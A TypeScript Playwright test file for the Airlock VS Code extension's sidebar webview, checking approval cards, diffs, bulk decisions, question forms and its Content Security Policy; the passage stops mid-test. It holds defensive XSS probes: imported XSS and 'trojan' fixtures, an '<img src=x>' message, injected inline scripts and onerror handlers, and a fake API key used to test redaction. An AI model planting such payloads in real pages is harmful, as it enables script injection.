// The sidebar webview in headless Chromium (playwright-core, /usr/bin/chromium). The page is
// served like the extension serves it (strict CSP with a nonce, dist/webview.js and .css), with a
// recorded acquireVsCodeApi. It is fed real events: the host runtime runs in this process against
// a scripted model server and a temp workspace (see host-events.ts). The tests click through the
// cards and forms and check the exact messages posted and what the developer sees.
// Build first: `node esbuild.mjs` (npm test does).
import assert from 'node:assert/strict';
import * as fs from 'node:fs';
import path from 'node:path';
import { after, before, describe, it } from 'node:test';
import type { Locator, Page } from 'playwright-core';
import type { FromWebview, RuleRow, RunRow, StateMessage } from '../../webview/protocol.js';
import type { Model } from '../../host/model/model.js';
import type { RunEvent } from '../../host/protocol/events.js';
import { Agent, SqlJsStore } from '../../host/runtime/index.js';
import { captureHostEvents, TROJAN, XSS_IMG, XSS_SCRIPT, type Captured } from './host-events.js';
import {
  openSidebar,
  startHarness,
  type Harness,
  type Sidebar,
  type ThemeName,
} from './harness.js';

const SHOTS = path.resolve('test-results/webview');

let harness: Harness;
let c: Captured;
const open: Sidebar[] = [];

before(async () => {
  for (const file of ['dist/webview.js', 'dist/webview.css']) {
    assert.ok(fs.existsSync(file), `${file} is missing: run \`node esbuild.mjs\` first.`);
  }
  c = await captureHostEvents();
  harness = await startHarness();
});

after(async () => {
  for (const sidebar of open) await sidebar.close();
  await harness?.close();
  await c?.close();
});

/** A fresh page (tests run one at a time, so the previous test's page is closed first). */
async function sidebar(theme: ThemeName = 'light'): Promise<Sidebar> {
  for (const previous of open.splice(0)) await previous.close();
  const s = await openSidebar(harness, theme);
  open.push(s);
  return s;
}

/** Saves test-results/webview/NAME.png of one part of the sidebar. */
async function shotOf(locator: Locator, name: string): Promise<void> {
  fs.mkdirSync(SHOTS, { recursive: true });
  await locator.screenshot({ path: path.join(SHOTS, `${name}.png`), animations: 'disabled' });
}

/** A request without its id (ids are checked separately: numbers, increasing). */
function body(message: FromWebview): Record<string, unknown> {
  const { id: _id, ...rest } = message as FromWebview & { id?: number };
  return rest;
}

function idOf(message: FromWebview): number {
  assert.ok('id' in message, `${message.type} has no id`);
  return message.id;
}

function card(page: Page, approvalId: string): Locator {
  return page.locator(`section.card[data-approval-id="${approvalId}"]`);
}

function form(page: Page, interactionId: string): Locator {
  return page.locator(`section.card[data-interaction-id="${interactionId}"]`);
}

function run(page: Page, runId: string): Locator {
  return page.locator(`section.run[data-run-id="${runId}"]`);
}

async function text(locator: Locator): Promise<string> {
  return (await locator.textContent()) ?? '';
}

/** The diff table of a card as [class, old, new, text] rows (hunks and notes as [class, text]). */
async function diffRows(locator: Locator): Promise<string[][]> {
  return locator.locator('table.diff tbody tr').evaluateAll((rows) =>
    rows.map((row) => {
      const cells = Array.from((row as HTMLTableRowElement).cells);
      if (cells.length === 1) return [row.className, cells[0]?.textContent ?? ''];
      const code = cells.at(-1);
      return [
        row.className,
        ...cells.slice(0, -1).map((cell) => cell.textContent ?? ''),
        code?.lastChild?.textContent ?? '',
      ];
    }),
  );
}

/** Waits for `count` messages in total and returns the last one. */
async function request(s: Sidebar, count: number): Promise<FromWebview> {
  return s.nthPosted(count);
}

async function postedCount(s: Sidebar): Promise<number> {
  return (await s.posted()).length;
}

function stateWith(overrides: Partial<StateMessage>): StateMessage {
  return { ...c.state, ...overrides };
}

function rowOf(runId: string): RunRow {
  const row = c.state.runs.find((r) => r.run_id === runId);
  assert.ok(row, `no row for ${runId}`);
  return row;
}

/**
 * A run of the real engine with a model that reasons (markup and a key in its reasoning) before
 * it answers: its live events, and the reasoning as the engine shows it (redacted).
 */
async function thinkingRun() {
  const REASONING = `Maybe ${XSS_IMG} first? The key sk-${'Q1w2E3r4T5'.repeat(3)} stays out.\nThen answer.`;
  const answer = 'Here is the plan.';
  const model: Model = {
    name: 'thinking',
    async *stream() {
      for (const piece of REASONING.match(/.{1,12}/gs) ?? []) {
        yield { type: 'reasoning' as const, text: piece };
      }
      yield { type: 'delta' as const, text: answer };
      return {
        text: answer,
        reasoning: REASONING,
        toolCalls: [],
        usage: { prompt_tokens: 1, completion_tokens: 1 },
      };
    },
  };
  const agent = new Agent({ name: 'coder', model, tools: [], store: await SqlJsStore.open() });
  const events: RunEvent[] = [];
  const output = await agent.run({ prompt: 'Plan it' }).collect((e) => events.push(e));
  const reasoning = events
    .filter((e) => e.type === 'delta' && e.thinking)
    .map((e) => (e as { text: string }).text)
    .join('');
  return { events, runId: output.run_id, reasoning, answer };
}

/** Injects an inline script or an inline event handler; resolves with the CSP directive that blocked it. */
function blockedBy(page: Page, inject: 'script' | 'handler'): Promise<string> {
  return page.evaluate(
    (what) =>
      new Promise<string>((resolve) => {
        document.addEventListener('securitypolicyviolation', (e) => resolve(e.effectiveDirective), {
          once: true,
        });
        if (what === 'script') {
          const script = document.createElement('script');
          script.textContent = 'window.__inline = 1';
          document.body.append(script);
        } else {
          const img = document.createElement('img');
          img.setAttribute('onerror', 'window.__inline = 2');
          img.src = 'x';
          document.body.append(img);
        }
      }),
    inject,
  );
}

void describe('sidebar webview (headless Chromium, real host events)', () => {
  void it('says ready before anything else, says when the host is starting, ignores invalid messages, shows empty and error states', async () => {
    const s = await sidebar();
    const { page } = s;
    assert.deepEqual(await s.posted(), [{ type: 'ready' }]);
    await page.getByRole('status').filter({ hasText: 'Starting the Airlock host…' }).waitFor();

    await page.evaluate(() => {
      window.postMessage({ type: 'state', runs: 'not a list' }, '*');
      window.postMessage({ type: 'unknown' }, '*');
      window.postMessage('<img src=x>', '*');
    });
    await page.waitForFunction(
      () => (window as unknown as { __warnings: string[] }).__warnings.length >= 3,
    );
    const warned = await page.evaluate(
      () => (window as unknown as { __warnings: string[] }).__warnings,
    );
    assert.ok(
      warned.every((w) => w.startsWith('Airlock: ignoring a message')),
      warned.join('\n'),
    );
    assert.ok(await page.getByText('Starting the Airlock host…').isVisible());

    await s.send({
      type: 'state',
      runs: [],
      approvals: [],
      interactions: [],
      connected: true,
      error: null,
    });
    await page.getByText('Nothing waiting for you.').waitFor();
    assert.equal(await page.locator('.banner').isVisible(), false);
    assert.ok(await page.getByText('No runs yet.').isVisible());

    await s.send({
      type: 'state',
      runs: [],
      approvals: [],
      interactions: [],
      connected: false,
      error: null,
    });
    await page.getByText('Starting the Airlock host…').waitFor();

    const error = 'The Airlock host stopped 3 times; use "Restart" to try again.';
    await s.send({
      type: 'state',
      runs: [],
      approvals: [],
      interactions: [],
      connected: false,
      error,
    });
    await page.getByRole('alert').filter({ hasText: error }).waitFor();
    assert.deepEqual(await s.posted(), [{ type: 'ready' }], 'nothing but ready was posted');
    assert.deepEqual(
      s.warnings.filter((w) => !w.startsWith('Airlock: ignoring a message')),
      [],
      'no other console errors or warnings (e.g. CSP violations)',
    );
  });

  void it('shows edit, create and delete cards of one model turn grouped by run, with arguments, diffs and expiry', async () => {
    const s = await sidebar();
    const { page } = s;
    await s.send(c.state);
    const group = page.locator(`section.group[data-run-id="${c.runIds.turn}"]`);
    await group.waitFor();
    assert.equal(await group.getAttribute('aria-label'), 'Run: Tidy up the greeting, 3 waiting');
    assert.equal(await group.locator('section.card').count(), 3);
    assert.ok(
      await group.getByRole('button', { name: 'Approve all 3 changes of this turn' }).isVisible(),
    );
    assert.ok(
      await group.getByRole('button', { name: 'Deny all 3 changes of this turn' }).isVisible(),
    );
    // A run with a single gate has no bulk buttons.
    const staleGroup = page.locator(`section.group[data-run-id="${c.runIds.stale}"]`);
    assert.equal(await staleGroup.getByRole('button', { name: /^(Approve|Deny) all/ }).count(), 0);

    const edit = card(page, c.edit.approval_id);
    assert.equal(await edit.getAttribute('aria-label'), 'Edit src/app.ts (edit_file)');
    assert.equal(await text(edit.locator('.card-head')), 'Editedit_filesrc/app.ts');
    assert.equal(await text(edit.locator('.prompt')), 'Edit src/app.ts?');
    assert.equal(await edit.locator('.expires time').getAttribute('datetime'), c.edit.expires_at);
    assert.match(await text(edit.locator('.expires')), /^Expires /);
    assert.equal(await text(edit.locator('.stats')), '+2 −1 lines · 108 bytes → 132 bytes');
    assert.deepEqual(
      await edit
        .locator('table.args tr')
        .evaluateAll((rows) =>
          rows.map((r) => [
            r.querySelector('th')?.textContent,
            r.querySelector('pre')?.textContent,
          ]),
        ),
      [
        ['path', 'src/app.ts'],
        ['old_string', "const name = 'world';"],
        ['new_string', "const name = 'Airlock';\nconst excited = true;"],
      ],
    );
    assert.deepEqual(await diffRows(edit), [
      ['hunk', '@@ -1,5 +1,6 @@'],
      ['ctx', '1', '1', "import { greet } from './greet';"],
      ['ctx', '2', '2', ''],
      ['del', '3', '', "const name = 'world';"],
      ['add', '', '3', "const name = 'Airlock';"],
      ['add', '', '4', 'const excited = true;'],
      ['ctx', '4', '5', 'console.log(greet(name));'],
      ['ctx', '5', '6', 'export const version = 1;'],
    ]);
    const backgrounds = await edit
      .locator('table.diff tbody tr td.code')
      .evaluateAll((cells) => cells.map((cell) => getComputedStyle(cell).backgroundColor));
    assert.notEqual(backgrounds[2], backgrounds[0], 'removed lines are coloured');
    assert.notEqual(backgrounds[3], backgrounds[0], 'added lines are coloured');
    assert.notEqual(backgrounds[2], backgrounds[3], 'added and removed differ');
    for (const name of [
      'Open diff of src/app.ts in the editor',
      'Edit src/app.ts, then approve',
      'Cancel this run',
    ]) {
      assert.ok(await edit.getByRole('button', { name }).isVisible(), name);
    }

    const create = card(page, c.create.approval_id);
    assert.equal(await text(create.locator('.badge')), 'Create');
    assert.equal(await text(create.locator('.stats')), '+3 −0 lines · new file, 35 bytes');
    assert.deepEqual(await diffRows(create), [
      ['hunk', '@@ -0,0 +1,3 @@'],
      ['add', '', '1', '# Greeting'],
      ['add', '', '2', ''],
      ['add', '', '3', 'Says hello to Airlock.'],
    ]);

    const remove = card(page, c.remove.approval_id);
    assert.equal(await text(remove.locator('.badge')), 'Delete');
    assert.deepEqual(await remove.locator('dl.facts > *').allTextContents(), [
      'Path',
      'old-notes.txt',
      'Size',
      '59 bytes',
    ]);
    assert.equal(await text(remove.locator('h4')), 'Content to be deleted');
    assert.deepEqual(await diffRows(remove), [
      ['del', '1', 'TODO: greet the world'],
      ['del', '2', 'TODO: remove this file'],
      ['del', '3', 'keep it short'],
    ]);
    assert.equal(await remove.getByRole('button', { name: /then approve/ }).count(), 0);
    assert.ok(
      await remove
        .getByRole('button', { name: 'Open diff of old-notes.txt in the editor' })
        .isVisible(),
    );
  });

  void it('approve (with comment), deny (with reason), always-allow/deny, edit-then-approve, open diff and cancel post exactly one request each', async () => {
    const s = await sidebar();
    const { page } = s;
    await s.send(c.state);
    const edit = card(page, c.edit.approval_id);
    const create = card(page, c.create.approval_id);
    const remove = card(page, c.remove.approval_id);
    const turn = { run_id: c.runIds.turn };
    await edit.waitFor();
    let n = 1; // "ready"
    const ids: number[] = [];
    const next = async () => {
      n += 1;
      const message = await request(s, n);
      ids.push(idOf(message));
      return message;
    };

    // Approve with a comment (behind "Add comment"): the card goes busy, then says it was sent.
    assert.equal(await edit.getByLabel('Comment (optional)').isVisible(), false);
    await edit.getByText('Add comment', { exact: true }).click();
    await edit.getByLabel('Comment (optional)').fill('Looks right');
    await edit.getByRole('button', { name: /^Approve:/ }).click();
    const approve = await next();
    assert.deepEqual(body(approve), {
      type: 'approve',
      ...turn,
      approval_id: c.edit.approval_id,
      comment: 'Looks right',
      scope: 'once',
    });
    assert.ok(await edit.getByRole('button', { name: /^Approve:/ }).isDisabled());
    assert.ok(await edit.getByRole('button', { name: /^Deny:/ }).isDisabled());
    assert.equal(await edit.getAttribute('aria-busy'), 'true');
    await s.send({ type: 'reply', id: idOf(approve), ok: true });
    await edit.getByText('Sent. Waiting for the run to continue…').waitFor();
    assert.ok(await edit.getByRole('button', { name: /^Approve:/ }).isDisabled(), 'stays decided');

    // Deny with a reason; the extension refuses: the error shows on that card, controls return.
    assert.equal(await create.getByLabel('Reason, if you deny').isVisible(), false);
    await create.getByText('Deny with reason…', { exact: true }).click();
    await create.getByLabel('Reason, if you deny').fill('Not needed: the README covers it');
    await create.getByRole('button', { name: /^Deny:/ }).click();
    const deny = await next();
    assert.deepEqual(body(deny), {
      type: 'deny',
      ...turn,
      approval_id: c.create.approval_id,
      reason: 'Not needed: the README covers it',
      scope: 'once',
    });
    await s.send({
      type: 'reply',
      id: idOf(deny),
      ok: false,
      error: `${c.create.approval_id} is not pending in run ${c.runIds.turn}.`,
    });
    await create
      .getByRole('alert')
      .filter({ hasText: `${c.create.approval_id} is not pending` })
      .waitFor();
    assert.ok(await create.getByRole('button', { name: /^Deny:/ }).isEnabled());
    assert.equal(await create.getAttribute('aria-busy'), null);
    assert.equal(
      await create.getByLabel('Reason, if you deny').inputValue(),
      'Not needed: the README covers it',
    );
    assert.equal(await edit.getByRole('alert').count(), 0, 'the error is on the card that failed');

    // Always allow (the control's default: this file, this run) after a refusal; always deny.
    await create.getByRole('button', { name: /^Always allow write_file: this file/ }).click();
    const allowRun = await next();
    assert.deepEqual(body(allowRun), {
      type: 'approve',
      ...turn,
      approval_id: c.create.approval_id,
      scope: 'run',
      cover: 'file',
    });
    await s.send({ type: 'reply', id: idOf(allowRun), ok: false, error: 'try again' });
    await create.getByRole('alert').filter({ hasText: 'try again' }).waitFor();
    assert.equal(await create.getByRole('alert').count(), 1, 'the new error replaced the old');
    await create.getByLabel('For', { exact: true }).selectOption('workspace');
    await create.getByRole('button', { name: /^Always deny write_file: this file/ }).click();
    assert.deepEqual(body(await next()), {
      type: 'deny',
      ...turn,
      approval_id: c.create.approval_id,
      reason: 'Not needed: the README covers it',
      scope: 'workspace',
      cover: 'file',
    });

    // Open diff and "Edit, then approve" are commands: the card is usable again once they land.
    await remove.getByRole('button', { name: 'Open diff of old-notes.txt in the editor' }).click();
    const openDiff = await next();
    assert.deepEqual(body(openDiff), {
      type: 'openDiff',
      ...turn,
      approval_id: c.remove.approval_id,
    });
    assert.ok(await remove.getByRole('button', { name: /^Approve:/ }).isDisabled());
    await s.send({ type: 'reply', id: idOf(openDiff), ok: true });
    await page.waitForFunction(
      (id) =>
        !document.querySelector<HTMLButtonElement>(`[data-approval-id="${id}"] button`)?.disabled,
      c.remove.approval_id,
    );
    assert.equal(await remove.locator('.action-status').textContent(), '');

    const stale = card(page, c.stale.approval_id);
    await stale.getByRole('button', { name: 'Edit numbers.txt, then approve' }).click();
    assert.deepEqual(body(await next()), {
      type: 'editThenApprove',
      run_id: c.runIds.stale,
      approval_id: c.stale.approval_id,
    });

    await remove.getByRole('button', { name: 'Cancel this run' }).click();
    assert.deepEqual(body(await next()), { type: 'cancelRun', ...turn });

    assert.deepEqual(
      ids,
      [...ids].sort((a, b) => a - b),
      'request ids increase',
    );
    assert.equal(new Set(ids).size, ids.length, 'request ids are unique');

    // The host decided the edit: its card leaves, the others stay as they were.
    await s.send(
      stateWith({
        approvals: c.state.approvals.filter((a) => a.approval_id !== c.edit.approval_id),
      }),
    );
    await edit.waitFor({ state: 'detached' });
    assert.equal(
      await page
        .locator(`section.group[data-run-id="${c.runIds.turn}"]`)
        .getAttribute('aria-label'),
      'Run: Tidy up the greeting, 2 waiting',
    );
    assert.ok(
      await page.getByRole('button', { name: 'Approve all 2 changes of this turn' }).isVisible(),
    );
    assert.equal(
      await create.getByLabel('Reason, if you deny').inputValue(),
      'Not needed: the README covers it',
      'typed text survives a state update',
    );
  });

  void it('"Approve all" and "Deny all" (with a reason) decide every gate of the turn at once', async () => {
    const s = await sidebar();
    const { page } = s;
    await s.send(c.state);
    const group = page.locator(`section.group[data-run-id="${c.runIds.turn}"]`);
    await group.waitFor();
    const turnIds = [c.edit.approval_id, c.create.approval_id, c.remove.approval_id];

    await group.getByLabel('Reason, if you deny all').fill('Wrong approach; keep the old notes');
    await group.getByRole('button', { name: 'Deny all 3 changes of this turn' }).click();
    const denyAll = await request(s, 2);
    assert.deepEqual(body(denyAll), {
      type: 'decideAll',
      run_id: c.runIds.turn,
      approval_ids: turnIds,
      approved: false,
      reason: 'Wrong approach; keep the old notes',
    });
    assert.ok(
      await card(page, c.edit.approval_id)
        .getByRole('button', { name: /^Approve:/ })
        .isDisabled(),
      'the whole group is busy',
    );
    await s.send({ type: 'reply', id: idOf(denyAll), ok: false, error: 'The run moved on.' });
    await group
      .locator('.bulk')
      .getByRole('alert')
      .filter({ hasText: 'The run moved on.' })
      .waitFor();
    assert.ok(
      await card(page, c.edit.approval_id)
        .getByRole('button', { name: /^Approve:/ })
        .isEnabled(),
    );

    await group.getByRole('button', { name: 'Approve all 3 changes of this turn' }).click();
    assert.deepEqual(body(await request(s, 3)), {
      type: 'decideAll',
      run_id: c.runIds.turn,
      approval_ids: turnIds,
      approved: true,
    });
  });

  void it('a stale gate says the file changed and shows the fresh diff', async () => {
    const s = await sidebar();
    const { page } = s;
    await s.send(c.state);
    const stale = card(page, c.stale.approval_id);
    await stale.waitFor();
    assert.equal(
      await text(stale.getByRole('note')),
      'numbers.txt changed since the agent proposed this. Below is the fresh diff against the file as it is now.',
    );
    assert.deepEqual(await diffRows(stale), [
      ['hunk', '@@ -1,4 +1,4 @@'],
      ['ctx', '1', '1', 'one'],
      ['del', '2', '', 'two'],
      ['add', '', '2', 'TWO'],
      ['ctx', '3', '3', 'three'],
      ['ctx', '4', '4', 'four (added by hand)'],
    ]);
    assert.equal(await card(page, c.edit.approval_id).getByRole('note').count(), 0);
  });

  void it('a card says when its file has unsaved changes in the editor, live, and when its diff is against them', async () => {
    const s = await sidebar();
    const { page } = s;
    await s.send(c.state);
    const edit = card(page, c.edit.approval_id);
    await edit.waitFor();
    const file = c.edit.preview?.path ?? '';
    assert.equal(await edit.getByRole('note').count(), 0, 'clean: nothing to say');

    // The developer types in that file (the extension sends the dirty list as it changes).
    await s.send({ type: 'unsaved', paths: ['elsewhere.txt', file] });
    await edit.getByRole('note').waitFor();
    assert.equal(
      await text(edit.getByRole('note')),
      `${file} has unsaved changes in the editor, and this diff is against the file on disk. Approving shows a fresh diff against your open document first; nothing is written behind it.`,
    );
    // A card that arrives later while the file is still dirty says it too.
    await s.send(stateWith({ approvals: [] }));
    await edit.waitFor({ state: 'detached' });
    await s.send(c.state);
    await edit.getByRole('note').waitFor();
    // Saved: the note goes.
    await s.send({ type: 'unsaved', paths: [] });
    await edit.getByRole('note').waitFor({ state: 'hidden' });

    // A gate computed against the open document says so, whatever the dirty list says.
    const onBuffer = { ...c.edit, preview: { ...c.edit.preview!, unsaved: true } };
    await s.send(stateWith({ approvals: [] }));
    await edit.waitFor({ state: 'detached' });
    await s.send(stateWith({ approvals: [onBuffer] }));
    await page
      .getByText(`This diff is against your unsaved changes to ${file}`, { exact: false })
      .waitFor();
    assert.equal(
      await text(card(page, c.edit.approval_id).getByRole('note')),
      `This diff is against your unsaved changes to ${file}: approving changes the open document (Ctrl+Z undoes it) and leaves saving to you.`,
    );
  });

  void it('a diff over 80 lines is collapsed to its hunks with "Open diff" first and "Show all N lines"; the arguments hide behind "Show arguments", long ones behind their own button; all stay expanded over a reload', async () => {
    const s = await sidebar();
    const { page } = s;
    await s.send(c.state);
    const big = card(page, c.big.approval_id);
    await big.waitFor();
    // Every line of the diff but the two file headers: hunk headers, -/+ lines, notes.
    const total = c.big.preview!.diff.trimEnd().split('\n').length - 2;
    assert.ok(total > 300);
    const toggle = big.getByRole('button', { name: `Show all ${total} lines` });
    assert.equal(await toggle.getAttribute('aria-expanded'), 'false');
    // One hunk: its header and first 6 lines.
    const rows = await diffRows(big);
    assert.equal(rows.length, 7);
    assert.equal(rows[0]?.[0], 'hunk');
    assert.equal(await text(big.locator('.diff-more')), `${total - 7} more lines are hidden.`);
    // "Open diff" is the first action of the collapsed diff, and the only one on the card.
    const openDiff = big.getByRole('button', { name: 'Open diff of big.txt in the editor' });
    assert.equal(await openDiff.count(), 1);
    assert.equal(
      await big.locator('.diff-block').getByRole('button').first().getAttribute('aria-label'),
      'Open diff of big.txt in the editor',
    );
    await toggle.click();
    assert.equal(await big.locator('table.diff tbody tr').count(), total);
    const collapse = big.getByRole('button', { name: 'Show fewer lines' });
    assert.equal(await collapse.getAttribute('aria-expanded'), 'true');

    // The arguments repeat the diff: behind "Show arguments".
    const content = c.big.input as { content: string };
    const value = big.locator('table.args tr', { hasText: 'content' }).locator('pre');
    assert.equal(await big.locator('table.args').isVisible(), false);
    await big.getByText('Show arguments', { exact: true }).click();
    assert.ok(await big.locator('table.args').isVisible());
    assert.match(await text(value), /…$/);
    assert.ok((await text(value)).length < content.content.length);
    await big
      .getByRole('button', { name: `Show all ${content.content.length} characters of content` })
      .click();
    assert.equal(await text(value), content.content);

    await s.reload();
    await s.send(c.state);
    await big.waitFor();
    assert.equal(await big.locator('table.diff tbody tr').count(), total);
    assert.ok(await big.locator('table.args').isVisible(), '"Show arguments" stays open');
    assert.equal(await text(value), content.content);
    assert.equal((await s.posted()).length, 1, 'expanding posts nothing');
  });

  void it('cards in a 900 px sidebar: a 300-line, 30-hunk diff keeps Approve and Deny in view (pinned), collapses to its hunks, scrolls long lines sideways; comment and reason open on demand', async () => {
    const s = await sidebar();
    const { page } = s;
    assert.equal(page.viewportSize()?.height, 900);
    const wide = card(page, c.wide.approval_id);
    await s.send(
      stateWith({
        runs: [c.wideRow, ...c.state.runs],
        approvals: [c.wide, ...c.state.approvals],
      }),
    );
    await wide.waitFor();
    const approve = wide.getByRole('button', { name: /^Approve:/ });
    const deny = wide.getByRole('button', { name: /^Deny:/ });
    const inView = async (locator: Locator) => {
      const box = await locator.boundingBox();
      assert.ok(box, 'rendered');
      return box.y >= 0 && box.y + box.height <= 900;
    };
    // Bring the card's top into view: both buttons are there without scrolling further.
    await wide.evaluate((el) => el.scrollIntoView({ block: 'start' }));
    assert.ok(await inView(approve), 'Approve in view at the top of the card');
    assert.ok(await inView(deny), 'Deny in view at the top of the card');

    // 30 hunks collapsed: hunk headers and their first lines, 40 rows at most.
    const hunks = (c.wide.preview!.diff.match(/^@@/gm) ?? []).length;
    assert.equal(hunks, 30);
    const rows = await diffRows(wide);
    assert.equal(rows.length, 40);
    assert.equal(rows.filter((r) => r[0] === 'hunk').length, 6);
    assert.equal(
      await wide.locator('.diff-block').getByRole('button').first().textContent(),
      'Open diff',
    );

    // Long lines scroll sideways: one row each, the scroller wider inside than out.
    const long = wide.locator('table.diff tbody tr', { hasText: "export const banner = 'xxx" });
    assert.equal(await long.count(), 2);
    const lineBox = await long.first().boundingBox();
    const shortBox = await wide.locator('table.diff tbody tr.ctx').first().boundingBox();
    assert.ok(lineBox && shortBox);
    assert.equal(Math.round(lineBox.height), Math.round(shortBox.height), 'no wrapping');
    const scroller = await wide.locator('.diff-scroll').evaluate((el) => ({
      client: el.clientWidth,
      scroll: el.scrollWidth,
      ox: getComputedStyle(el).overflowX,
    }));
    assert.ok(scroller.scroll > scroller.client * 2, 'the long line overflows sideways');
    assert.equal(scroller.ox, 'auto');
    assert.equal(
      await wide
        .locator('table.diff td.code')
        .first()
        .evaluate((el) => getComputedStyle(el).whiteSpace),
      'pre',
    );

    // Expanded, the card is taller than the window: scrolled to its middle and to its end,
    // Approve and Deny stay pinned in view.
    await wide.getByRole('button', { name: /^Show all \d+ lines$/ }).click();
    assert.equal(await wide.locator('table.args').isVisible(), false, 'arguments hidden');
    await wide.getByText('Show arguments', { exact: true }).click();
    await wide.locator('table.args').waitFor({ state: 'visible' });
    const height = (await wide.boundingBox())!.height;
    assert.ok(height > 1100, `a card taller than the window (${height} px)`);
    for (const at of [0.5, 0.9]) {
      await wide.evaluate((el, at) => {
        const top = el.getBoundingClientRect().top + window.scrollY;
        window.scrollTo(0, top + el.getBoundingClientRect().height * at);
      }, at);
      await page.waitForFunction(() => window.scrollY > 0);
      assert.ok(await inView(approve), `Approve pinned at ${at * 100}% of the card`);
      assert.ok(await inView(deny), `Deny pinned at ${at * 100}% of the card`);
      await approve.click({ trial: true }); // nothing covers it
    }
    // The window as the developer sees it, scrolled deep into the card.
    fs.mkdirSync(SHOTS, { recursive: true });
    await page.screenshot({ path: path.join(SHOTS, 'card-pinned-decision.png') });

    // Comment and deny reason are behind disclosures, closed; arguments behind "Show arguments".
    await wide.evaluate((el) => el.scrollIntoView({ block: 'start' }));
    assert.equal(await wide.getByLabel('Comment (optional)').isVisible(), false);
    assert.equal(await wide.getByLabel('Reason, if you deny').isVisible(), false);
    const addComment = wide.getByText('Add comment', { exact: true });
    await addComment.focus();
    await page.keyboard.press('Enter');
    await wide.getByLabel('Comment (optional)').waitFor({ state: 'visible' });
    await page.waitForFunction(() => document.activeElement?.tagName === 'TEXTAREA');
    await wide.getByText('Deny with reason…', { exact: true }).click();
    await wide.getByLabel('Reason, if you deny').waitFor({ state: 'visible' });
    await wide.getByLabel('Reason, if you deny').fill('Only the first ten lines');
    await deny.click();
    const posted = await request(s, 2);
    assert.deepEqual(body(posted), {
      type: 'deny',
      run_id: c.wideRow.run_id,
      approval_id: c.wide.approval_id,
      reason: 'Only the first ten lines',
      scope: 'once',
    });
    await wide.evaluate((el) => el.scrollIntoView({ block: 'start' }));
    await shotOf(wide, 'card-disclosures-open');
  });

  void it('question forms from real interactions: radios, text, yes/no, numbers and checkboxes, validated before posting, with the host error shown', async () => {
    const s = await sidebar();
    const { page } = s;
    await s.send(c.state);
    const qRun = c.runIds.questions;
    const group = page.locator(`section.group[data-run-id="${qRun}"]`);
    await group.waitFor();
    assert.equal(await group.locator('section.card.question').count(), 5);
    let n = 1;

    // ask_user with options: a radio group (its suggestions, then "Other…"); nothing chosen → an
    // error on the field, no message.
    const ask = form(page, c.askUser.interaction_id);
    const radios = ask.getByRole('radiogroup', { name: 'Which package manager should I use?' });
    assert.deepEqual(
      await radios
        .getByRole('radio')
        .evaluateAll((r) => r.map((e) => (e as HTMLInputElement).value)),
      ['npm', 'pnpm', 'yarn', ''],
    );
    await ask.getByRole('button', { name: 'Send answer' }).click();
    await ask.locator('.field-error').filter({ hasText: 'This answer is required.' }).waitFor();
    assert.equal(await ask.getByRole('alert').textContent(), 'Check the highlighted answer.');
    assert.equal(await postedCount(s), n, 'an invalid form posts nothing');
    await ask.getByLabel('pnpm').check();
    assert.equal(
      await ask.locator('.field-error').isVisible(),
      false,
      'the error clears on change',
    );
    await ask.getByRole('button', { name: 'Send answer' }).click();
    assert.deepEqual(body(await request(s, ++n)), {
      type: 'answer',
      run_id: qRun,
      interaction_id: c.askUser.interaction_id,
      value: 'pnpm',
    });

    // ask_user_multi: several questions, an object keyed by question id.
    const multi = form(page, c.askMulti.interaction_id);
    await multi.getByRole('button', { name: 'Send answer' }).click();
    assert.equal(await multi.locator('.field-error:visible').count(), 2);
    assert.equal(await multi.getByRole('alert').textContent(), 'Check the highlighted answers.');
    const nameBox = multi.getByLabel('What should the module be called?');
    assert.equal(
      await page.evaluate(() => document.activeElement?.getAttribute('aria-invalid')),
      'true',
      'focus moves to the first invalid field',
    );
    assert.equal(await nameBox.getAttribute('aria-invalid'), 'true');
    assert.equal(await postedCount(s), n);
    await nameBox.fill('greeter');
    await multi.getByRole('radiogroup', { name: 'Which style?' }).getByLabel('classes').check();
    await multi.getByRole('button', { name: 'Send answer' }).click();
    const answer = await request(s, ++n);
    assert.deepEqual(body(answer), {
      type: 'answer',
      run_id: qRun,
      interaction_id: c.askMulti.interaction_id,
      value: { name: 'greeter', style: 'classes' },
    });
    assert.ok(await multi.getByRole('button', { name: 'Send answer' }).isDisabled());
    const hostError =
      'The answer does not fit: name: Too small: expected string to have >=1 characters';
    await s.send({ type: 'reply', id: idOf(answer), ok: false, error: hostError });
    await multi.getByRole('alert').filter({ hasText: hostError }).waitFor();
    assert.ok(await multi.getByRole('button', { name: 'Send answer' }).isEnabled());
    assert.equal(await nameBox.inputValue(), 'greeter', 'the answer is still there to fix');

    // confirm: Yes / No.
    const confirm = form(page, c.confirm.interaction_id);
    const yesNo = confirm.getByRole('radiogroup', { name: 'Also update the README?' });
    assert.deepEqual(await yesNo.locator('label').allTextContents(), ['Yes', 'No']);
    await yesNo.getByLabel('No').check();
    await confirm.getByRole('button', { name: 'Send answer' }).click();
    assert.deepEqual(body(await request(s, ++n)), {
      type: 'answer',
      run_id: qRun,
      interaction_id: c.confirm.interaction_id,
      value: false,
    });

    // A custom tool's suspend({ schema: z.number().min(1).max(10) }): a bounded number input.
    const num = form(page, c.number.interaction_id);
    const input = num.getByLabel('How many retries (1-10)?');
    assert.equal(await input.getAttribute('type'), 'number');
    assert.equal(await input.getAttribute('min'), '1');
    assert.equal(await input.getAttribute('max'), '10');
    await input.fill('42');
    await num.getByRole('button', { name: 'Send answer' }).click();
    await num.locator('.field-error').filter({ hasText: 'Type a number from 1 to 10.' }).waitFor();
    assert.equal(await postedCount(s), n);
    await input.fill('7');
    await input.press('Enter');
    assert.deepEqual(body(await request(s, ++n)), {
      type: 'answer',
      run_id: qRun,
      interaction_id: c.number.interaction_id,
      value: 7,
    });

    // An object with an array of enum items (checkboxes, at least one) and an optional note.
    const checks = form(page, c.checks.interaction_id);
    const boxes = checks.getByRole('group', { name: 'Which checks should run?' });
    assert.deepEqual(await boxes.locator('label').allTextContents(), ['lint', 'test', 'build']);
    assert.ok(await checks.getByText('Anything for the commit message? (optional)').isVisible());
    await checks.getByRole('button', { name: 'Send answer' }).click();
    await checks.locator('.field-error').filter({ hasText: 'Choose at least 1.' }).waitFor();
    assert.equal(await postedCount(s), n);
    await boxes.getByLabel('build').check();
    await boxes.getByLabel('lint').check();
    await checks.getByRole('button', { name: 'Send answer' }).click();
    assert.deepEqual(body(await request(s, ++n)), {
      type: 'answer',
      run_id: qRun,
      interaction_id: c.checks.interaction_id,
      value: { checks: ['lint', 'build'] },
    });
    await s.send({ type: 'reply', id: idOf((await s.posted()).at(-1)!), ok: true });
    await checks.getByText('Sent. Waiting for the run to continue…').waitFor();

